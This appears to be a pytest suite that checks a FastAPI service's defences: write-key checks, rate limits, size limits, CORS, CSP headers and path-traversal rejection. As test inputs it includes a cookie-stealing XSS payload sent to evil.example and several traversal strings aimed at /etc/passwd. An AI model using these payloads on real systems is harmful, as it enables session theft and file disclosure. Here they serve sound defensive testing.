"""The service's guards: write key, rate limit, request size, CORS, security headers and the
Content-Security-Policy of the HTML pages, and no request value turned into a file path."""

from __future__ import annotations

import hashlib
import re
import shutil
from pathlib import Path

import pytest
from fastapi import Depends, FastAPI, Request
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import BUNDLED
from unggulan.api import security
from unggulan.api.errors import (
    DEFAULT_STATUS_CODES,
    NotAuthorised,
    WritesDisabled,
    add_exception_handlers,
)
from unggulan.api.main import create_app
from unggulan.api.routes_upload import safe_filename
from unggulan.api.security import (
    TokenBucket,
    check_write_key,
    html_policy,
    inline_script_hashes,
    require_write_key,
)
from unggulan.base.settings import Settings

KEY = "kunci-rahasia-bappeda-0123456789"


def _policy(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


@pytest.fixture(scope="module")
def open_client():
    """The bundled data, no write key (writes off), the default limits."""
    with TestClient(create_app(Settings(data=BUNDLED)), raise_server_exceptions=False) as c:
        yield c


@pytest.fixture
def keyed(tmp_path):
    """A copy of the bundled data (writes change it) with a write key configured."""
    for sub in ("boundaries", "sentra"):
        shutil.copytree(BUNDLED / sub, tmp_path / sub)
    app = create_app(Settings(data=tmp_path, write_api_key=KEY, rate_limit_per_minute=0))
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c, tmp_path


# --- the write key -------------------------------------------------------------------------


def test_write_key_is_compared_in_constant_time_on_bytes(monkeypatch):
    calls = []
    real = security.hmac.compare_digest

    def spy(a, b):
        calls.append((type(a), type(b), len(a), len(b)))
        return real(a, b)

    monkeypatch.setattr(security.hmac, "compare_digest", spy)
    check_write_key(KEY, KEY)
    with pytest.raises(NotAuthorised):
        check_write_key(KEY, KEY[:-1])  # one character short: same-length digests compared
    with pytest.raises(NotAuthorised):
        check_write_key(KEY, None)
    # both keys hashed to 32-byte SHA-256 digests, then compare_digest on bytes
    assert calls[:2] == [(bytes, bytes, 32, 32)] * 2
    with pytest.raises(WritesDisabled) as off:
        check_write_key(None, KEY)
    assert "UNGGULAN_WRITE_API_KEY" in str(off.value) and "X-API-Key" in str(off.value)
    with pytest.raises(WritesDisabled):
        check_write_key("", KEY)  # an empty setting is no key


def test_a_non_ascii_key_matches_the_bytes_a_client_sends():
    # HTTP headers reach the app decoded as latin-1: "kunci-é" sent as UTF-8 arrives as
    # "kunci-Ã©"; the check compares the bytes, so it matches the configured "kunci-é"
    sent = "kunci-é".encode().decode("latin-1")
    assert sent == "kunci-Ã©"
    check_write_key("kunci-é", sent)
    with pytest.raises(NotAuthorised):
        check_write_key("kunci-é", "kunci-é")  # a header can't carry U+00E9 as one byte here


def test_reload_is_off_without_a_configured_key(open_client):
    r = open_client.post("/api/v1/reload", headers={"X-API-Key": "tebakan"})
    assert r.status_code == 403
    body = r.json()
    assert body["field"] == "x-api-key"
    assert "UNGGULAN_WRITE_API_KEY" in body["detail"] and "writes are off" in body["detail"]


def test_reload_needs_the_right_key(keyed):
    c, _ = keyed
    assert c.post("/api/v1/reload").status_code == 403
    r = c.post("/api/v1/reload", headers={"X-API-Key": KEY + "x"})
    assert r.status_code == 403 and "wrong write key" in r.json()["detail"]
    r = c.post("/api/v1/reload", headers={"X-API-Key": KEY})
    assert r.status_code == 200 and r.json()["reloaded"] is True


def test_the_schema_documents_the_write_key(open_client):
    spec = open_client.get("/openapi.json").json()
    assert spec["components"]["securitySchemes"]["WriteKey"] == {
        "type": "apiKey", "in": "header", "name": "X-API-Key",
        "description": spec["components"]["securitySchemes"]["WriteKey"]["description"]}
    assert spec["paths"]["/api/v1/reload"]["post"]["security"] == [{"WriteKey": []}]
    assert "403" in spec["paths"]["/api/v1/reload"]["post"]["responses"]


def test_upload_apply_is_refused_before_any_work_and_the_name_is_never_a_path(keyed):
    c, folder = keyed
    before = sorted(p.name for p in (folder / "sentra").iterdir())
    code = c.get("/api/v1/areas?limit=1").json()["items"][0]["code"]
    table = f"komoditas,kode_desa\nkakao,{code}\n".encode()
    # without the key: refused with 403, nothing stored
    r = c.post("/api/v1/sentra/preview", params={"apply": "true"},
               files={"file": ("baru.csv", table, "text/csv")})
    assert r.status_code == 403
    assert sorted(p.name for p in (folder / "sentra").iterdir()) == before
    # with the key, a name that climbs out of the folder lands inside it, cleaned
    r = c.post("/api/v1/sentra/preview", params={"apply": "true"},
               files={"file": ("../../../panen kakao.csv", table, "text/csv")},
               headers={"X-API-Key": KEY})
    assert r.status_code == 200, r.text
    assert r.json()["applied"] is True and r.json()["file"] == "panen kakao.csv"
    assert (folder / "sentra" / "panen_kakao.csv").read_bytes() == table
    assert not (folder.parent / "panen kakao.csv").exists()
    assert not list((folder / "sentra").glob(".upload-*"))  # no temporary file left


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_safe_filename_never_names_a_folder_or_a_hidden_file(raw):
    name = safe_filename(raw)
    assert name and "/" not in name and "\\" not in name and "\0" not in name
    assert not name.startswith(".") and name not in ("..", ".")
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", name)
    assert Path(name).name == name and len(name) <= 100 + 1 + 300


# --- rate limit ----------------------------------------------------------------------------


def test_token_bucket_refills_at_the_configured_rate():
    now = [100.0]
    bucket = TokenBucket(per_minute=30, burst=3, clock=lambda: now[0])
    # a burst of 3 passes, the 4th waits: 30/min = one token per 2 s, bucket empty -> 2 s
    assert [bucket.take("a") for _ in range(3)] == [0.0, 0.0, 0.0]
    assert bucket.take("a") == pytest.approx(2.0)
    assert bucket.take("b") == 0.0  # another client has its own bucket
    now[0] += 1.0  # half a token back: 1 s more to wait
    assert bucket.take("a") == pytest.approx(1.0)
    now[0] += 1.0  # one token: granted, and empty again
    assert bucket.take("a") == 0.0
    assert bucket.take("a") == pytest.approx(2.0)
    now[0] += 600.0  # a long pause refills only up to the burst
    assert [bucket.take("a") for _ in range(4)][-1] == pytest.approx(2.0)


def test_idle_clients_are_forgotten():
    now = [0.0]
    bucket = TokenBucket(per_minute=60, burst=1, clock=lambda: now[0], max_clients=3)
    for ip in ("a", "b", "c"):
        bucket.take(ip)
    now[0] += 5.0  # all three full again
    bucket.take("d")
    assert len(bucket._buckets) <= 3


def test_expensive_endpoints_answer_429_with_retry_after():
    app = create_app(Settings(data=BUNDLED, rate_limit_per_minute=6, rate_limit_burst=2))
    with TestClient(app, raise_server_exceptions=False, client=("10.1.2.3", 5000)) as c:
        q = {"level": "kecamatan", "format": "csv"}
        assert [c.get("/api/v1/export", params=q).status_code for _ in range(2)] == [200, 200]
        r = c.get("/api/v1/export", params=q)
        assert r.status_code == 429
        # 6 per minute = one token per 10 s: the wait is what is left of those 10 s since the
        # first export (which itself takes seconds here), rounded up
        assert 1 <= int(r.headers["retry-after"]) <= 10
        assert "6 per minute" in r.json()["detail"] and r.json()["field"] is None
        assert r.headers["x-content-type-options"] == "nosniff"  # headers on refusals too
        # reads that cost little are not limited, nor other clients
        assert all(c.get("/api/v1/summary").status_code == 200 for _ in range(5))
    with TestClient(app, raise_server_exceptions=False, client=("10.9.9.9", 5000)) as other:
        assert other.get("/api/v1/export", params=q).status_code == 200


def test_rate_limited_paths_cover_the_expensive_endpoints():
    s = Settings()
    for method, path in [("POST", "/api/v1/reload"), ("GET", "/api/v1/export"),
                         ("HEAD", "/api/v1/export"), ("POST", "/api/v1/sentra/preview"),
                         ("POST", "/api/v1/scenarios"), ("GET", "/peta/data/desa.geojson"),
                         ("GET", "/api/v1/areas/73.08.01/brief.pdf")]:
        assert security.rate_limited(method, path, s.rate_limit_paths), (method, path)
    for method, path in [("GET", "/api/v1/summary"), ("GET", "/peta"),
                         ("GET", "/api/v1/scenarios"), ("GET", "/api/v1/areas/73.08.01")]:
        assert not security.rate_limited(method, path, s.rate_limit_paths), (method, path)


# --- request size --------------------------------------------------------------------------


def _tiny_app(settings: Settings, seen: list) -> FastAPI:
    """The guards around two endpoints that read their body."""
    app = FastAPI()
    app.state.settings = settings
    add_exception_handlers(app, DEFAULT_STATUS_CODES)
    security.install(app, settings)

    @app.post("/echo")
    async def echo(request: Request) -> dict:
        seen.append("echo")
        return {"bytes": len(await request.body())}

    @app.post("/form")
    async def form(request: Request) -> dict:
        seen.append("form")
        f = await request.form()
        return {"fields": len(f)}

    @app.post("/write", dependencies=[Depends(require_write_key)])
    def write() -> dict:
        return {"written": True}

    return app


def test_a_declared_content_length_over_the_limit_is_refused_before_reading():
    seen: list = []
    c = TestClient(_tiny_app(Settings(max_request_kb=1), seen))
    r = c.post("/echo", content=b"x" * 1025, headers={"content-type": "application/json"})
    assert r.status_code == 413
    assert r.json()["detail"].endswith("the limit of 1 KB (UNGGULAN_MAX_REQUEST_KB)")
    assert seen == []  # the endpoint never ran
    assert c.post("/echo", content=b"x" * 1024).json() == {"bytes": 1024}


def test_a_streamed_body_is_counted_as_it_arrives():
    seen: list = []
    c = TestClient(_tiny_app(Settings(max_request_kb=1), seen))

    def chunks():  # no Content-Length: sent chunked
        for _ in range(4):
            yield b"y" * 400

    r = c.post("/echo", content=chunks())
    assert "content-length" not in r.request.headers
    assert r.status_code == 413 and "1 KB" in r.json()["detail"]


def test_an_upload_over_the_limit_says_the_limit():
    seen: list = []
    c = TestClient(_tiny_app(Settings(max_upload_mb=1), seen))
    big = b"a;b\n" + b"1;2\n" * (300 * 1024)  # 1.2 MB
    r = c.post("/form", files={"file": ("big.csv", big, "text/csv")})
    assert r.status_code == 413
    assert "1 MB (UNGGULAN_MAX_UPLOAD_MB)" in r.json()["detail"]
    # the same file streamed without a length: refused while multipart parsing reads it
    boundary = "b0undary"
    payload = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
               f"filename=\"big.csv\"\r\nContent-Type: text/csv\r\n\r\n").encode() + big + \
        f"\r\n--{boundary}--\r\n".encode()
    r = c.post("/form", content=iter([payload[i:i + 65536]
                                      for i in range(0, len(payload), 65536)]),
               headers={"content-type": f"multipart/form-data; boundary={boundary}"})
    assert r.status_code == 413 and "UNGGULAN_MAX_UPLOAD_MB" in r.json()["detail"]
    small = c.post("/form", files={"file": ("small.csv", b"a;b\n1;2\n", "text/csv")})
    assert small.status_code == 200


def test_the_service_refuses_an_oversized_upload(open_client):
    r = open_client.post("/api/v1/sentra/preview",
                         files={"file": ("besar.csv", b"x" * (11 << 20), "text/csv")})
    assert r.status_code == 413 and "10 MB" in r.json()["detail"]


# --- CORS ----------------------------------------------------------------------------------


def test_cors_is_closed_by_default(open_client):
    r = open_client.options("/api/v1/summary", headers={
        "Origin": "http://evil.example", "Access-Control-Request-Method": "GET"})
    assert "access-control-allow-origin" not in r.headers
    r = open_client.get("/api/v1/summary", headers={"Origin": "http://evil.example"})
    assert r.status_code == 200 and "access-control-allow-origin" not in r.headers


def test_cors_opens_only_to_the_configured_origins():
    app = create_app(Settings(data=BUNDLED, cors_origins=["http://bappeda.local"]))
    with TestClient(app) as c:
        ok = c.options("/api/v1/summary", headers={
            "Origin": "http://bappeda.local", "Access-Control-Request-Method": "GET"})
        assert ok.headers["access-control-allow-origin"] == "http://bappeda.local"
        other = c.get("/api/v1/summary", headers={"Origin": "http://evil.example"})
        assert "access-control-allow-origin" not in other.headers


# --- security headers and CSP --------------------------------------------------------------


def test_inline_script_hash_worked_by_hand():
    # printf 'var a = 1;' | openssl dgst -sha256 -binary | base64
    #   -> +dZ6udsWxNVoGfScAq7t5IIF5UJb4F6RhjbN6oe1p4w=
    html = (b'<html><script src="/static/x.js"></script>\r\n'
            b'<SCRIPT type="text/javascript">var a = 1;</SCRIPT >'
            b'<script>var a = 1;</script>'  # the same text twice: one hash
            b'<script>\r\nvar b = 2;\r\n</script></html>')
    got = inline_script_hashes(html)
    b_text = b"\nvar b = 2;\n"  # CR LF read as LF, as the browser's parser does
    import base64

    b_hash = base64.b64encode(hashlib.sha256(b_text).digest()).decode()
    assert got == ["'sha256-+dZ6udsWxNVoGfScAq7t5IIF5UJb4F6RhjbN6oe1p4w='",
                   f"'sha256-{b_hash}'"]
    p = _policy(html_policy(html, Settings()))
    assert p["script-src"] == ["'self'", *got]


@pytest.mark.parametrize("path", ["/health", "/api/v1/summary", "/openapi.json",
                                  "/static/peta/unggulan.js", "/api/v1/areas/99.99",
                                  "/tidak-ada"])
def test_every_response_has_the_security_headers(open_client, path):
    r = open_client.get(path)
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] in ("no-referrer", "same-origin")
    assert r.headers["x-frame-options"] == "DENY"
    assert _policy(r.headers["content-security-policy"])["frame-ancestors"] == ["'none'"]


@pytest.mark.parametrize("path", ["/", "/peta?level=kecamatan&lang=en",
                                  "/peta/komoditas/kakao?view=score", "WILAYAH"])
def test_html_pages_allow_only_their_own_scripts(open_client, path):
    if path == "WILAYAH":
        code = open_client.get("/api/v1/areas?limit=1").json()["items"][0]["code"]
        path = f"/peta/wilayah/{code}"
    r = open_client.get(path)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    p = _policy(r.headers["content-security-policy"])
    inline = [m.group(2) for m in re.finditer(r"<script\b([^>]*)>(.*?)</script>", r.text,
                                              re.S) if "src=" not in m.group(1)]
    assert inline, "the map pages carry inline scripts"
    import base64

    for text in inline:
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in p["script-src"]
    assert len(p["script-src"]) == 1 + len(set(inline))
    assert "'unsafe-inline'" not in p["script-src"] and "'unsafe-eval'" not in p["script-src"]
    srcs = re.findall(r'<script[^>]*\ssrc="([^"]+)"', r.text)
    assert srcs and all(s.startswith("/static/") for s in srcs)  # all under 'self'
    assert p["style-src"] == ["'self'", "'unsafe-inline'"]
    assert p["img-src"] == ["'self'", "data:", "https://tile.openstreetmap.org"]
    assert p["object-src"] == ["'none'"] and p["frame-ancestors"] == ["'none'"]
    assert p["connect-src"] == ["'self'"]
    handlers = set(re.findall(r'\son[a-z]+="([^"]*)"', r.text))
    if handlers:  # the detail page's language buttons, allowed one by one by their hashes
        assert handlers == {"unggulan.setLang('id');", "unggulan.setLang('en');"}
        assert p["script-src-attr"][0] == "'unsafe-hashes'"
        assert len(p["script-src-attr"]) == 1 + len(handlers)
    else:
        assert p["script-src-attr"] == ["'none'"]


def test_no_inline_handler_is_allowed():
    page = (b"<button onclick=\"unggulan.setLang(&#x27;en&#x27;);\">EN</button>"
            b"<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">")
    assert _policy(html_policy(page, Settings()))["script-src-attr"] == ["'none'"]


def test_a_pdf_keeps_what_the_browser_viewer_needs():
    async def pdf(scope, receive, send):
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"application/pdf")]})
        await send({"type": "http.response.body", "body": b"%PDF-1.7"})

    c = TestClient(security.SecurityHeadersMiddleware(pdf, Settings()))
    r = c.get("/api/v1/areas/73.08.01/brief.pdf")
    # Chromium's PDF viewer needs inline styles and an <embed>: no default-src 'none' here
    assert r.headers["content-security-policy"] == "frame-ancestors 'none'"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_the_api_docs_page_may_load_its_cdn(open_client):
    p = _policy(open_client.get("/docs").headers["content-security-policy"])
    assert "https://cdn.jsdelivr.net" in p["script-src"]
    assert any(s.startswith("'sha256-") for s in p["script-src"])
    assert "https://cdn.jsdelivr.net" not in _policy(
        open_client.get("/peta").headers["content-security-policy"])["script-src"]


# --- no request value becomes a file path --------------------------------------------------


@pytest.mark.parametrize("path", [
    "/static/peta/../../settings.py", "/static/peta/%2e%2e/%2e%2e/settings.py",
    "/static/peta/..%2f..%2fsettings.py", "/static/vendor/..%2f..%2f..%2fpyproject.toml",
    "/static/peta/%2fetc%2fpasswd", "/peta/wilayah/..%2f..%2f..%2fetc%2fpasswd",
    "/peta/komoditas/..%2f..%2fetc%2fpasswd", "/ogc/collections/..%2fdesa/items",
    "/peta/data/..%2f..%2fsettings.geojson"])
def test_traversal_attempts_are_plain_404s(open_client, path):
    r = open_client.get(path)
    assert r.status_code in (404, 422), (path, r.status_code)
    assert "BaseSettings" not in r.text and "root:" not in r.text


def test_an_export_area_never_leaves_its_folder(open_client, tmp_path, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    for area in ("../../../tmp/x", "/etc/passwd", "73.08/../..", "\x00", "x" * 400):
        r = open_client.get("/api/v1/export", params={"area": area, "format": "csv"})
        assert r.status_code in (404, 422), (area, r.status_code, r.text[:200])
    assert not Path("/tmp/x.csv").exists()
    # whatever was made, was made inside the export temp folder
    assert all(p.name.startswith("unggulan-export-") for p in tmp_path.iterdir())
